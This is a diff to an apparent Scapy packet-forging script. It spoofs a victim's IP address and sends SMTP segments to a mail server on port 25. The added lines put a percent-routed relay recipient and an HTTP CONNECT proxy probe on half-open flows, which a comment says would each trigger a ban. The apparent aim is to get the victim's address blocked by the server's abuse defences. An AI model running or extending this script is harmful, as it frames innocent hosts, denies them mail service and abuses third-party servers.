@@ -18,8 +18,11 @@ conf.verb = 0
 victim, server = sys.argv[1], sys.argv[2]
 rounds = int(sys.argv[3]) if len(sys.argv) > 3 else 5
 L3 = IPv6 if ":" in server else IP
+# talk before the greeting, a foreign recipient, a relay probe: each would
+# be a ban if it came from a verified session
 cmds = (b"EHLO victim.test\r\n", b"MAIL FROM:<v@victim.test>\r\n",
-        b"RCPT TO:<relay-me@gmail.com>\r\n", b"DATA\r\n")
+        b"RCPT TO:<relay-me@gmail.com>\r\n",
+        b"RCPT TO:<relay-me%gmail.com@example.test>\r\n", b"DATA\r\n")
 sent = 0
 for r in range(rounds):
     sport = random.randint(20000, 60000)
@@ -37,4 +40,9 @@ for r in range(rounds):
     send(ip / TCP(sport=sport + 1, dport=25, flags="PA", seq=seq, ack=seq)
          / Raw(b"".join(cmds)))
     sent += 1
+    # non-SMTP bytes (an HTTP proxy probe) on a half-open flow
+    send(ip / TCP(sport=sport + 2, dport=25, flags="S", seq=seq))
+    send(ip / TCP(sport=sport + 2, dport=25, flags="PA", seq=seq + 1, ack=1)
+         / Raw(b"CONNECT gmail.com:25 HTTP/1.0\r\n\r\n"))
+    sent += 2
 print(f"sent {sent} forged segments")
